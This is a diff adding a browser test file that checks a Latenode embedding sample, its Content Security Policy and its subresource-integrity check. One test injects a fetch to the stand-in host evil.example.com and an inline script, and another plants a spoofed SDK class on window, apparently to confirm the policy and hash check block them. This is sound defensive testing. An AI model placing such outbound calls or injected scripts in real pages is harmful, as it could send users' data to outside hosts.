@@ -1,0 +1,79 @@
+/** The file for `<script type="module">`, in Chromium, without a build. */
+import { cp, mkdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, inject, test } from 'vitest';
+import { samples } from './samples.ts';
+import { sdkIntegrity, startBrowser, type Visit, type VisitOptions } from './stage.ts';
+
+const root = inject('frontEndFolder');
+const folder = join(root, 'page');
+const visitPage = startBrowser();
+let visit: Visit;
+
+const script = '<script type="module">';
+const signIn = () => sessionStorage.setItem('id_token', 'identity-token');
+
+beforeEach(() => mkdir(folder, { recursive: true }));
+
+afterEach(async () => {
+  await visit.page.context().close();
+});
+
+/** Opens the sample; its script is moved to a file, because the policy of docs/front-end.md allows none in the page. */
+const open = async (change: (script: string) => string, options?: VisitOptions): Promise<void> => {
+  const [page = '', code = ''] = samples.page.replace('</script>', '').split(script);
+  await cp(join(root, 'latenode-token-client.js'), join(folder, 'latenode-token-client.js'));
+  await writeFile(join(folder, 'main.js'), change(code));
+  await writeFile(join(folder, 'index.html'), `${page}<script type="module" src="main.js"></script>`);
+  visit = await visitPage(folder, options);
+};
+
+test('the sample embeds Latenode', async () => {
+  await open((code) => code, { before: signIn });
+  await visit.page.getByText('Latenode for eyJ').waitFor();
+  expect(visit.tokenRequests).toHaveLength(1);
+  expect(visit.complaints).toEqual([]);
+});
+
+test('the recommended policy keeps scripts from sending data elsewhere, and inline scripts from running', async () => {
+  await open(
+    () => `fetch('https://evil.example.com').catch(() => {
+    const script = document.createElement('script');
+    script.textContent = 'document.title = "inline"';
+    document.body.append(script);
+  })`,
+  );
+  await expect.poll(() => visit.complaints.join()).toMatch(/connect-src.*script-src/s);
+  expect(await visit.page.title()).toBe('Automations');
+});
+
+describe('integrity', () => {
+  const withIntegrity = (integrity: string) => (code: string) =>
+    code.replace(
+      "embedLatenode({ client, container: 'latenode' });",
+      `embedLatenode({ client, container: 'latenode', integrity: '${integrity}' }).sdk.catch((error) => {
+        document.title = error.code;
+      });`,
+    );
+  const putClassOnWindow = () => {
+    sessionStorage.setItem('id_token', 'identity-token');
+    Object.assign(window, {
+      LatenodeEmbeddedSDK: class {
+        configure() {
+          document.title = 'the class on window';
+        }
+      },
+    });
+  };
+
+  test('embeds Latenode from the script with this hash, although a class is on window', async () => {
+    await open(withIntegrity(sdkIntegrity), { before: putClassOnWindow });
+    await visit.page.getByText('Latenode for eyJ').waitFor();
+    expect(await visit.page.title()).toBe('Automations');
+  });
+
+  test('embeds nothing when the hash differs, although a class is on window', async () => {
+    await open(withIntegrity(`sha384-${'A'.repeat(64)}`), { before: putClassOnWindow });
+    await expect.poll(() => visit.page.title()).toBe('sdk_not_loaded');
+  });
+});
